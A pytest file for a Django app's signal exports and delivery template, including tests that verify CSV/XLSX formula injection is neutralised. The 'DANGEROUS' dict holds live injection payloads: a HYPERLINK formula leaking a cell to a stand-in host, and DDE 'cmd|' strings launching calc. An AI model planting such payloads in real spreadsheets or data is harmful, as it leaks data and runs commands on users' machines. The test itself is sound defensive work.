"""Exports of signals (CSV and XLSX) and the empty delivery template.

An export holds exactly the signals the user may see, and a spreadsheet never evaluates what a
partner typed: a cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is
written as text, prefixed with an apostrophe.
"""
import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from signals.models import Signal
from signals.reader import COLUMNS
from signals.selectors import EXPORT_HEADER
from tests.signals.conftest import deliver, deliver_rows, signal_row


def export(client, project, fmt, query="") -> list[list]:
    response = client.get(reverse("signals:export", args=[project.pk, fmt]) + query)
    assert response.status_code == 200
    assert response["Content-Disposition"] == (
        f'attachment; filename="signalen-project-{project.pk}.{fmt}"')
    assert response["Cache-Control"] == "no-store"
    return read(response.content, fmt)


def read(content: bytes, fmt: str) -> list[list]:
    if fmt == "csv":
        assert content.startswith(b"\xef\xbb\xbf")  # Excel reads UTF-8 only with a BOM
        return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";"))
    sheet = load_workbook(io.BytesIO(content)).active
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


pytestmark = pytest.mark.usefixtures("signals_delivered")


def references(rows) -> set[str]:
    column = EXPORT_HEADER.index("referentie")
    return {row[column] for row in rows[1:]}


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_partner_exports_only_its_own_signals(world, client_for, uwv_user, svb_user, fmt):
    uwv_rows = export(client_for(uwv_user), world.project, fmt)
    svb_rows = export(client_for(svb_user), world.project, fmt)

    assert uwv_rows[0] == EXPORT_HEADER
    assert references(uwv_rows) == {"UWV-1", "UWV-2", "UWV-3"}
    assert references(svb_rows) == {"SVB-1", "SVB-9"}
    assert {row[0] for row in svb_rows[1:]} == {"SVB"}


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_projectleider_exports_every_signal_of_the_project(world, client_for, projectleider, fmt):
    rows = export(client_for(projectleider), world.project, fmt)

    assert references(rows) == {"UWV-1", "UWV-2", "UWV-3", "SVB-1", "SVB-9"}
    assert len(rows) == 6


def test_export_follows_the_filters_of_the_list(world, client_for, uwv_user, categories):
    rows = export(client_for(uwv_user), world.project, "csv",
                  f"?category={categories['adresfraude'].pk}")

    assert references(rows) == {"UWV-2"}


def test_export_of_a_partner_without_signals_has_only_the_header(intake_project, client_for,
                                                                 bd_mkb_user):
    assert export(client_for(bd_mkb_user), intake_project, "xlsx") == [EXPORT_HEADER]


# --- formula injection ----------------------------------------------------------------

DANGEROUS = {
    "=": '=HYPERLINK("http://example.invalid/?leak="&A1,"klik")',
    "+": "+31 6 12345678",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
}


@pytest.fixture
def planted(intake_project, uwv_user):
    """Signals whose grounds, reference and street begin with a formula character.

    Tab and carriage return cannot come in through a file or form (values are trimmed), so
    those two are written straight into the stored signals."""
    rows = [
        signal_row(huisnummer=str(number), indicatoren=text, referentie=text, straat=text)
        for number, text in enumerate(DANGEROUS.values(), start=41)
    ] + [signal_row(huisnummer="98"), signal_row(huisnummer="99")]
    deliver_rows(intake_project, uwv_user, rows)
    Signal.objects.filter(house_number=98).update(grounds="\t=1+1", reference="\t@A1", street="\t-1")
    Signal.objects.filter(house_number=99).update(grounds="\r=1+1", reference="\r+1", street="\r@x")
    expected = set(DANGEROUS.values()) | {"\t=1+1", "\t@A1", "\t-1", "\r=1+1", "\r+1", "\r@x"}
    return {"'" + text for text in expected}


PLANTED_NUMBERS = {"41", "42", "43", "44", "98", "99"}


def dangerous_cells(rows) -> set[str]:
    columns = [EXPORT_HEADER.index(name) for name in ("indicatoren", "referentie", "straat")]
    planted_rows = [row for row in rows[1:]
                    if row[EXPORT_HEADER.index("huisnummer")] in PLANTED_NUMBERS]
    assert len(planted_rows) == 6
    return {row[c] for row in planted_rows for c in columns}


def test_csv_export_writes_formula_characters_as_text(intake_project, client_for, uwv_user,
                                                      planted):
    rows = export(client_for(uwv_user), intake_project, "csv")

    assert dangerous_cells(rows) == planted
    assert all(cell.startswith("'") for cell in dangerous_cells(rows))


def test_xlsx_export_writes_formula_characters_as_text_not_formulas(
    intake_project, client_for, uwv_user, planted
):
    response = client_for(uwv_user).get(reverse("signals:export", args=[intake_project.pk, "xlsx"]))

    sheet = load_workbook(io.BytesIO(response.content)).active
    columns = {EXPORT_HEADER.index(name) + 1 for name in ("indicatoren", "referentie", "straat")}
    number = EXPORT_HEADER.index("huisnummer")
    planted_rows = [row for row in sheet.iter_rows(min_row=2) if row[number].value in PLANTED_NUMBERS]
    cells = [cell for row in planted_rows for cell in row if cell.column in columns]
    assert len(planted_rows) == 6
    # XML turns a carriage return into a line feed when the workbook is read back.
    assert {cell.value for cell in cells} == {text.replace("\r", "\n") for text in planted}
    assert {cell.data_type for cell in cells} == {"s"}
    # And every other filled cell is text too: no formula anywhere in the workbook.
    every_cell = [cell for row in sheet.iter_rows() for cell in row]
    assert {cell.data_type for cell in every_cell if cell.value is not None} == {"s"}
    assert not any(cell.data_type == "f" for cell in every_cell)


def test_ordinary_values_are_exported_unchanged(world, client_for, uwv_user):
    rows = export(client_for(uwv_user), world.project, "csv")
    signal = world.uwv_signals[0]
    row = next(r for r in rows if r[EXPORT_HEADER.index("referentie")] == signal.reference)

    assert row[EXPORT_HEADER.index("adressleutel")] == "8011WR-1--"
    assert row[EXPORT_HEADER.index("indicatoren")] == signal.grounds
    assert row[EXPORT_HEADER.index("status")] == "Actief"


# --- the delivery template --------------------------------------------------------------

def test_csv_template_has_exactly_the_ten_agreed_columns(client_for, uwv_user):
    response = client_for(uwv_user).get(reverse("signals:template", args=["csv"]))

    assert response["Content-Disposition"] == 'attachment; filename="sjabloon-signalen.csv"'
    rows = read(response.content, "csv")
    assert rows == [list(COLUMNS)]
    assert len(rows[0]) == 10


def test_xlsx_template_has_exactly_the_ten_agreed_columns(client_for, uwv_user):
    response = client_for(uwv_user).get(reverse("signals:template", args=["xlsx"]))

    assert response["Content-Disposition"] == 'attachment; filename="sjabloon-signalen.xlsx"'
    workbook = load_workbook(io.BytesIO(response.content))
    assert workbook.sheetnames == ["Signalen"]
    assert read(response.content, "xlsx") == [list(COLUMNS)]


def test_a_filled_in_template_is_accepted(intake_project, client_for, uwv_user):
    template = client_for(uwv_user).get(reverse("signals:template", args=["xlsx"])).content
    workbook = load_workbook(io.BytesIO(template))
    workbook["Signalen"].append(list(signal_row().values()))
    buffer = io.BytesIO()
    workbook.save(buffer)

    upload = deliver(intake_project, uwv_user, buffer.getvalue(), "sjabloon-signalen.xlsx")

    assert upload.rows_accepted == 1


def test_template_format_must_be_csv_or_xlsx(client_for, uwv_user):
    assert client_for(uwv_user).get("/sjabloon-signalen.pdf").status_code == 404
